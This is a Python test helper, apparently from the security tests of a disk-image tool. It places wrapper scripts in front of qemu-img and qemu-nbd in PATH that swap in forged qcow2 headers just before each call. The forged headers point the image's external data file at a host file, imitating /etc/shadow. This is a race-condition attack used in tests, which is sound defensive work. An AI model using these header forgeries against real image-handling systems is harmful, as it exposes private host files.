# SPDX-License-Identifier: Apache-2.0
"""Somebody who exchanges files just before a program opens them.

Stands in the place of the program in PATH: does something, runs the real one, undoes it. So the moment,
which an attacker has to hit by luck or by watching, is hit each time.
"""

import os
import shlex
import shutil
import struct
from collections.abc import Mapping
from pathlib import Path

SECRET = b"a line of /etc/shadow\n"


def secret_file(path: Path, size: int) -> Path:
    """A file of the host that is nobody's business."""
    path.write_bytes((SECRET * (size // len(SECRET) + 1))[:size])
    path.chmod(0o600)
    return path


def in_front_of(folder: Path, program: str, before: str, after: str = "") -> Mapping[str, str]:
    """The environment in which a shell script runs around each call of a program; `after` is left out
    for programs that are ended from outside."""
    folder.mkdir(exist_ok=True)
    real = shutil.which(program)
    assert real is not None
    run = (
        f'{shlex.quote(real)} "$@"\ncode=$?\n{after}\nexit $code' if after else f'exec {real} "$@"'
    )
    script = folder / program
    script.write_text(f"#!/bin/sh\n{before}\n{run}\n")
    script.chmod(0o755)
    return {"PATH": f"{folder}{os.pathsep}{os.environ['PATH']}"}


def forged_head(image: Path, data_file: Path) -> bytes:
    """The head of a qcow2 image, which says now that its data lies in another file."""
    head = image.read_bytes()[:65536]
    name = str(data_file).encode()
    length = struct.unpack_from(">I", head, 100)[0]
    extension = struct.pack(">II", 0x44415441, len(name)) + name.ljust(
        -(-len(name) // 8) * 8, b"\0"
    )
    forged = bytearray(head[:length] + extension + head[length : 65536 - len(extension)])
    features = struct.unpack_from(">Q", forged, 72)[0] | 4
    struct.pack_into(">Q", forged, 72, features)
    backing = struct.unpack_from(">Q", forged, 8)[0]
    if backing:
        struct.pack_into(">Q", forged, 8, backing + len(extension))
    return bytes(forged)


def flipping(folder: Path, images: list[Path], data_file: Path) -> Mapping[str, str]:
    """The environment in which qemu-img and qemu-nbd find forged heads in these images, which are put
    back afterwards."""
    folder.mkdir()
    there, back = [], []
    for number, image in enumerate(images):
        (folder / f"{number}.forged").write_bytes(forged_head(image, data_file))
        (folder / f"{number}.right").write_bytes(image.read_bytes()[:65536])
        to = f"of={shlex.quote(str(image))} conv=notrunc status=none"
        there.append(f"dd if={folder}/{number}.forged {to}")
        back.append(f"dd if={folder}/{number}.right {to}")
    environment = in_front_of(folder / "bin", "qemu-img", "\n".join(there), "\n".join(back))
    in_front_of(folder / "bin", "qemu-nbd", "\n".join(there))
    return environment
